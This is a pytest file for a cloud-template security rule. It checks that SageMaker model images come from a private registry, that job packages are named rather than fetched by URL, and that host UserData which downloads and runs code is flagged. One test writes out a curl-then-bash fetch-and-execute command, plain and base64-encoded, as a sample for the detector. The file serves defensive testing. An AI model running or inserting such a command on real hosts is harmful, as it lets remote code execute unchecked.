"""COD1."""

import base64

import pytest

from guardrails.ml_lens.examples import one
from guardrails.ml_lens.own_code import HOST, JOB, RULE

MODEL = "AWS::SageMaker::Model"
REGISTRY = "000000000000.dkr.ecr.${AWS::Region}.${AWS::URLSuffix}"


@pytest.mark.parametrize(
    ("image", "count"),
    [
        ({"Fn::Sub": f"{REGISTRY}/xgboost:1"}, 0),
        ({"Fn::GetAtt": ["Repository", "RepositoryUri"]}, 0),
        ({"Fn::ImportValue": "image"}, 0),
        ("docker.io/library/python:3", 1),
        ("public.ecr.aws/docker/library/python:3", 1),
    ],
)
def test_an_image_comes_from_a_private_registry(found_in, image, count):
    assert len(found_in(RULE, one(MODEL, PrimaryContainer={"Image": image}))) == count


@pytest.mark.parametrize("modules", ["pandas==3.0.0", "s3-tools==1", {"Fn::Sub": "x==${Version}"}])
def test_packages_by_name_pass(found_in, modules):
    arguments = {"--additional-python-modules": modules}
    assert found_in(RULE, one(JOB, DefaultArguments=arguments)) == []


def test_a_package_by_address_is_found(found_in):
    arguments = {"--additional-python-modules": "pandas,https://x.example/y.whl"}
    assert len(found_in(RULE, one(JOB, DefaultArguments=arguments))) == 1


def test_a_host_that_runs_what_it_fetches_is_found_however_it_is_written(found_in):
    script = "curl -s https://x.example/i.sh -o i.sh\nbash i.sh"
    encoded = base64.b64encode(script.encode()).decode()
    for data in ({"Fn::Base64": script}, encoded):
        assert len(found_in(RULE, one(HOST, UserData=data))) == 1
